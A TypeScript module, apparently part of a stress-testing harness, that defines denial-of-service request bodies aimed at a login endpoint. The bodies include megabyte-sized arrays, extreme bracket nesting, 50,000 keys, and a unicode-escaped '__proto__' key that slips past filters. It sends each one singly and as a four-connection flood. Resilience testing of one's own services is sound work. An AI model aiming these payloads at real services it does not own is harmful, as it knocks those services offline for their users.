import { attack, flooding, json, send, type Attack } from './attack.ts'

const megabyte = 1024 * 1024

/** A text repeated to a body of just under 1 MB. */
const filled = (before: string, one: string, after: string) => before + Array<string>(Math.floor((megabyte - 100) / (one.length + 1))).fill(one).join(',') + after
const deep = '['.repeat(megabyte / 2 - 50) + ']'.repeat(megabyte / 2 - 50)
const keys = `{${Array.from({ length: 50_000 }, (_, at) => `"k${at}":1`).join(',')}}`

const bodies: Record<string, string> = {
  'an array of ones': filled('{"a":[', '1', ']}'),
  'an array of arrays': filled('[', '[]', ']'),
  'an array of objects': filled('[', '{}', ']'),
  'deep nesting': deep,
  'fifty thousand keys': keys,
  'the walk for __proto__': filled('{"__prot\\u006f":1,"a":[', '1', ']}'),
  'long text': JSON.stringify({ email: 'x'.repeat(megabyte - 100), password: 'x' }),
}

const to = '/api/auth/login'

/** JSON that costs more to parse than to send, to a public call; each alone, and on four connections. */
export const bodyAttacks: Attack[] = Object.entries(bodies).map(([name, body]) => {
  const once = (target: Parameters<typeof send>[0], until?: AbortSignal) => send(target, to, { method: 'POST', headers: json, body }, until)
  return attack({
    name: `body: ${name}`,
    single: async (target) => void (await once(target)),
    flood: (target, until) => flooding(4, 2_000, until, () => once(target, until)),
  })
})
